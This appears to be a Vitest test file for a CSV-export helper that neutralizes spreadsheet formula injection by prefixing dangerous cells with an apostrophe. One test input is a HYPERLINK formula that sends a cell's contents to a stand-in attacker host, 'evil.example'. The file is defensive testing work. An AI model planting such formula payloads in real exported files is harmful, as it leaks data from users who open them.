import { describe, expect, it } from "vitest";
import { neutralizeFormula } from "./csv-cells";

describe("neutralizeFormula", () => {
  it("prefixes every cell a spreadsheet would run as a formula", () => {
    for (const cell of [
      "=1+1",
      "@SUM(1+1)",
      "-cmd",
      "+cmd",
      "\tcmd",
      "\rcmd",
      '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    ]) {
      expect(neutralizeFormula(cell)).toBe(`'${cell}`);
    }
  });
  it("leaves ordinary text and numbers alone", () => {
    for (const cell of ["SUMMER10", "12.50", "", "a=b", "#1001"]) expect(neutralizeFormula(cell)).toBe(cell);
  });
});
